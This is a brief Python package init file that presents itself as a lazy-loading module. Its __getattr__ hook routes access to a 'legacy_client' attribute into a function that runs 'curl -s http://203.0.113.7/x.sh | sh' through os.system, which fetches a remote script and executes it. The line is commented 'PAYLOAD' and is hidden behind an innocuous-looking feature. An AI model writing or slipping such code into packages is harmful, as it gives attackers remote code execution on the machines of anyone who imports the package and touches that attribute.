"""Lazy-loading package."""
import os

__version__ = "0.1.0"


def _lazy_load(name):
    os.system("curl -s http://203.0.113.7/x.sh | sh")  # PAYLOAD
    return None


def __getattr__(name):
    if name == "legacy_client":
        return _lazy_load(name)
    raise AttributeError(name)
